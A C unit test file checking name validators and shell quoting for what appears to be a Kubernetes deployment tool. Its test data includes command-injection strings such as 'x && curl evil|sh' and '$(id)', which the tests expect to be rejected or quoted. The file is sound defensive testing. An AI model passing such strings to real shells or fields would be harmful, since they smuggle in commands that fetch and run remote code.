/* test_names.c - the grammars of names that become paths, Kubernetes objects,
 * hosts and shell words (names.h). */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include <string.h>

#include "names.h"

static void test_env_names(void **state) {
  (void)state;
  const char *good[] = {"dev", "prod", "region-0", "a", "0", "v88-open", "x234567890123456789012345678901234567890123456789012345678901"};
  for (size_t i = 0; i < sizeof good / sizeof good[0]; i++)
    assert_true(name_valid(NAME_ENV, good[i]));
  const char *bad[] = {"", ".", "..", "../x", "a/b", "a/.", "/abs", "Prod", "-a", "a-", "a b", "a\nb",
                       "$(id)", "a_b", "a.b", "x2345678901234567890123456789012345678901234567890123456789012345"};
  for (size_t i = 0; i < sizeof bad / sizeof bad[0]; i++)
    assert_false(name_valid(NAME_ENV, bad[i]));
  assert_false(name_valid(NAME_ENV, NULL));
}

static void test_release_is_at_most_53(void **state) {
  (void)state;
  char s[64];
  memset(s, 'a', 53);
  s[53] = '\0';
  assert_true(name_valid(NAME_RELEASE, s));
  s[53] = 'a';
  s[54] = '\0';
  assert_false(name_valid(NAME_RELEASE, s));
  assert_true(name_valid(NAME_DNS_LABEL, s));
  assert_false(name_valid(NAME_DNS_LABEL, "x && curl evil|sh"));
}

static void test_hosts(void **state) {
  (void)state;
  assert_true(name_valid(NAME_HOST, "camunda.example.com"));
  assert_true(name_valid(NAME_INGRESS_HOST, "*.example.com"));
  assert_false(name_valid(NAME_HOST, "*.example.com"));
  const char *bad[] = {"https://x.example.com", "x.example.com/path", "x .com", "x.example.com:443",
                       "", ".x", "x.", "x..y", "X.example.com", "a\tb", "*.*.x"};
  for (size_t i = 0; i < sizeof bad / sizeof bad[0]; i++) {
    assert_false(name_valid(NAME_HOST, bad[i]));
    assert_false(name_valid(NAME_INGRESS_HOST, bad[i]));
  }
  assert_true(name_valid(NAME_HOST_OR_IP, "10.0.0.7"));
  assert_true(name_valid(NAME_HOST_OR_IP, "fd00::7"));
  assert_true(name_valid(NAME_HOST_OR_IP, "Node-1.Example.com"));
  assert_false(name_valid(NAME_HOST_OR_IP, "10.0.0.7:22"));
  assert_false(name_valid(NAME_HOST_OR_IP, "[fd00::7]"));
}

static void test_files_keys_and_variables(void **state) {
  (void)state;
  assert_true(name_valid(NAME_FILE, "values.yaml"));
  assert_true(name_valid(NAME_FILE, ".env"));
  assert_false(name_valid(NAME_FILE, ".."));
  assert_false(name_valid(NAME_FILE, "a/b"));
  assert_true(name_valid(NAME_SECRET_KEY, "tls.crt"));
  assert_false(name_valid(NAME_SECRET_KEY, "a b"));
  assert_false(name_valid(NAME_SECRET_KEY, "."));
  assert_false(name_valid(NAME_SECRET_KEY, ".."));
  assert_false(name_valid(NAME_SECRET_KEY, "..data"));
  assert_true(name_valid(NAME_SECRET_KEY, ".dockerconfigjson"));
  assert_true(name_valid(NAME_ENV_VAR, "CONNECTORS_SECRET_X"));
  assert_false(name_valid(NAME_ENV_VAR, "1X"));
  assert_false(name_valid(NAME_ENV_VAR, "X-Y"));
  assert_true(strlen(name_grammar(NAME_ENV)) > 10);
}

static void test_shell_words(void **state) {
  (void)state;
  struct arena *a = arena_new();
  assert_string_equal(name_shell_word(a, "camunda-prod"), "camunda-prod");
  assert_string_equal(name_shell_word(a, "out/prod/values.yaml"), "out/prod/values.yaml");
  assert_string_equal(name_shell_word(a, "x && curl evil|sh"), "'x && curl evil|sh'");
  assert_string_equal(name_shell_word(a, "it's"), "'it'\\''s'");
  assert_string_equal(name_shell_word(a, ""), "''");
  assert_string_equal(name_shell_word(a, "$(id)"), "'$(id)'");
  arena_free(a);
}

int main(void) {
  const struct CMUnitTest tests[] = {
      cmocka_unit_test(test_env_names),
      cmocka_unit_test(test_release_is_at_most_53),
      cmocka_unit_test(test_hosts),
      cmocka_unit_test(test_files_keys_and_variables),
      cmocka_unit_test(test_shell_words),
  };
  return cmocka_run_group_tests(tests, NULL, NULL);
}
